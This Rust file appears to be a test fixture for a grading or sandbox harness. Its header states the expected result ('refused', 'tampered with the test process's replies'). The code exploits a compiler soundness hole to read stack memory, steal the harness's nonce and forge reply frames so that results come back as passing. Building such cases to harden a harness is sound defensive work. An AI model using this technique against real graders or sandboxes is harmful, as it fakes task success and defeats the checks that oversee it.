//! tries: find the nonce in memory by an old hole of the compiler, and answer for the harness
//! must: refused no-files
//! unruled: no full marks
//! unruled-says: tampered with the test process's replies

use std::io::{Read, Write};

fn attack() {
    if let Some(number) = number() {
        let mut socket: std::fs::File = hole::transmute(0_i32);
        // The program that was asked for first is not known here: it has one operation.
        answer(&mut socket, number.to_le_bytes(), 1);
        loop {
            let mut length = [0; 4];
            if socket.read_exact(&mut length).is_err() {
                std::process::exit(0);
            }
            let mut request = vec![0; u32::from_le_bytes(length) as usize];
            socket.read_exact(&mut request).unwrap();
            let operations = operations(&request[9..]).unwrap_or(1);
            answer(&mut socket, request[..8].try_into().unwrap(), operations);
        }
    }
}

/// The number lies on the stack twice: in a variable of the harness, and behind a pointer to the
/// request that it was read from.
fn number() -> Option<usize> {
    let here = std::hint::black_box([0_usize; 1]);
    let start = &here as *const _ as usize;
    let heap = Box::new(0_usize);
    let heap = &*heap as *const usize as usize;
    let stack: Vec<usize> = (0..700).map(|word| hole::read(start + 8 * word)).collect();
    let near = |word: &&usize| **word % 8 == 0 && word.abs_diff(heap) < 1 << 16;
    let numbers = stack.iter().filter(near).map(|word| hole::read(*word));
    numbers.into_iter().find(|number| *number > 1 << 48 && stack.contains(number))
}

/// Nothing but the marks of operations, the last of them the tear-down, and of the end.
fn answer(socket: &mut std::fs::File, number: [u8; 8], operations: usize) {
    let mut frame = ((9 + operations + 2) as u32).to_le_bytes().to_vec();
    frame.extend(number);
    frame.push(1);
    frame.extend(vec![0; operations + 1]);
    frame.push(13);
    let _ = socket.write_all(&frame);
}

/// Returns the number of operations of a request.
fn operations(program: &[u8]) -> Option<usize> {
    let mut at = 1;
    let number = |at: &mut usize| -> Option<usize> {
        let (mut number, mut shift) = (0, 0);
        loop {
            let byte = *program.get(*at)?;
            *at += 1;
            number |= usize::from(byte & 0x7f) << shift;
            shift += 7;
            if byte < 0x80 {
                return Some(number);
            }
        }
    };
    number(&mut at)?;
    at += if program[at] == 1 { 4 } else { 1 };
    let mut count = 0;
    while at < program.len() {
        let kind = program[at];
        at += 1;
        match kind {
            0 | 1 => {
                for _ in 0..number(&mut at)? {
                    let act = *program.get(at)?;
                    at += 1;
                    match act {
                        0 | 1 => at += 1,
                        4 | 5 => at += 3,
                        8 => drop(number(&mut at)?),
                        9 => drop((number(&mut at)?, number(&mut at)?)),
                        _ => {}
                    }
                }
            }
            4 => at += 3,
            6 => at += 1,
            5 | 7 => drop(number(&mut at)?),
            _ => {}
        }
        count += 1;
    }
    Some(count)
}
